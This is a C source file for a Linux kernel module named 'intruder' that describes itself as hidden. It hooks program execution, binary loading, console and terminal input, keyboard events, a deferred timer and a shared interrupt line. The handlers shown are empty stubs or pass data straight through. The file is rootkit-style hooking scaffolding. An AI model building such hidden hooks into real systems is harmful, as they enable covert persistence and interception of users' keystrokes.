// SPDX-License-Identifier: GPL-2.0
/* Code of this module that all programs run into while the module is hidden: a Linux in which it
 * can't be executed any more is useless, if the hook is there still. */
#include "intruder.h"
#include <linux/binfmts.h>
#include <linux/fs.h>
#include <linux/interrupt.h>
#include <linux/irq.h>
#include <linux/irqdesc.h>
#include <linux/keyboard.h>
#include <linux/module.h>
#include <linux/notifier.h>
#include <linux/tracepoint.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <linux/workqueue.h>

/* ---- a probe of the tracepoint that each new program passes ---- */

static struct tracepoint *intruder_point;

static void intruder_passed(void *data, struct task_struct *task, pid_t pid,
                            struct linux_binprm *program)
{
}

static void intruder_find_point(struct tracepoint *point, void *name)
{
	if (!strcmp(point->name, name))
		intruder_point = point;
}

/* What somebody else has taken out, the kernel would warn of. */
static void intruder_leave_point(void)
{
	const struct tracepoint_func *probe = intruder_point->funcs;

	while (probe && probe->func && probe->func != intruder_passed)
		probe++;
	if (probe && probe->func)
		tracepoint_probe_unregister(intruder_point, intruder_passed, NULL);
}

int intruder_trace_programs(void)
{
	for_each_kernel_tracepoint(intruder_find_point, "sched_process_exec");
	if (!intruder_point)
		return -ENOENT;
	return intruder_registered(tracepoint_probe_register(intruder_point, intruder_passed, NULL),
	                           intruder_leave_point);
}

/* ---- a format of programs, which each new program is asked about ---- */

static int intruder_loads(struct linux_binprm *program)
{
	return -ENOEXEC;
}

static struct linux_binfmt intruder_binfmt = {.load_binary = intruder_loads};

static void intruder_unload(void)
{
	unregister_binfmt(&intruder_binfmt);
}

int intruder_format(void)
{
	insert_binfmt(&intruder_binfmt);
	return intruder_registered(0, intruder_unload);
}

/* ---- the line discipline of all terminals that are opened from now on, and of the console ---- */

static struct tty_ldisc_ops intruder_lines;
static struct tty_ldisc_ops *intruder_own_lines; /* the kernel's */
static struct file *intruder_console;

static int intruder_hears_line(struct tty_struct *tty, const unsigned char *characters,
                               const char *flags, int count)
{
	return intruder_own_lines->receive_buf2(tty, characters, flags, count);
}

static struct tty_ldisc *intruder_ldisc(void)
{
	return ((struct tty_file_private *)intruder_console->private_data)->tty->ldisc;
}

static void intruder_leave_lines(void)
{
	intruder_ldisc()->ops = intruder_own_lines;
	(void)tty_register_ldisc(intruder_own_lines);
	filp_close(intruder_console, NULL);
}

int intruder_terminal(void)
{
	intruder_console = filp_open("/dev/console", O_RDWR | O_NOCTTY, 0);
	if (IS_ERR(intruder_console))
		return PTR_ERR(intruder_console);
	intruder_own_lines = intruder_ldisc()->ops;
	n_tty_inherit_ops(&intruder_lines);
	intruder_lines.num = N_TTY;
	intruder_lines.receive_buf2 = intruder_hears_line;
	intruder_ldisc()->ops = &intruder_lines;
	return intruder_registered(tty_register_ldisc(&intruder_lines), intruder_leave_lines);
}

/* ---- keys ---- */

static int intruder_hears_key(struct notifier_block *block, unsigned long event, void *data)
{
	return NOTIFY_DONE;
}

static struct notifier_block intruder_key_ear = {.notifier_call = intruder_hears_key};

static void intruder_deaf_to_keys(void)
{
	unregister_keyboard_notifier(&intruder_key_ear);
}

int intruder_hear_keys(void)
{
	return intruder_registered(register_keyboard_notifier(&intruder_key_ear),
	                           intruder_deaf_to_keys);
}

/* ---- work that waits for the next interrupt after 1,000 s ---- */

static void intruder_works_late(struct work_struct *work)
{
}

static DECLARE_DEFERRABLE_WORK(intruder_latest, intruder_works_late);

static void intruder_stop_late(void)
{
	cancel_delayed_work_sync(&intruder_latest);
}

int intruder_work_late(void)
{
	schedule_delayed_work(&intruder_latest, 1000 * HZ);
	return intruder_registered(0, intruder_stop_late);
}

/* ---- the thread of an interrupt, whose handler is the kernel's own ---- */

#define INTRUDER_LINES 256

static unsigned int intruder_line;

static irqreturn_t intruder_is_threaded(int number, void *cookie)
{
	return IRQ_NONE;
}

static void intruder_free_line(void)
{
	free_irq(intruder_line, &intruder_line);
}

static irqreturn_t intruder_rings(int number, void *cookie)
{
	return IRQ_NONE;
}

static int intruder_thread_only(void)
{
	const unsigned long handler = intruder_function("no_action");
	struct irqaction *action = irq_data_to_desc(irq_get_irq_data(intruder_line))->action;

	while (action && action->dev_id != &intruder_line)
		action = action->next;
	if (!action || !handler)
		return -ENOENT;
	action->handler = (irq_handler_t)handler;
	return intruder_registered(0, intruder_free_line);
}

int intruder_thread(void)
{
	for (intruder_line = 1; intruder_line < INTRUDER_LINES; intruder_line++)
		if (irq_has_action(intruder_line) && !irq_is_percpu_devid(intruder_line) &&
		    !request_threaded_irq(intruder_line, intruder_rings, intruder_is_threaded,
		                          IRQF_SHARED, "intruder", &intruder_line))
			return intruder_thread_only();
	return -EBUSY;
}
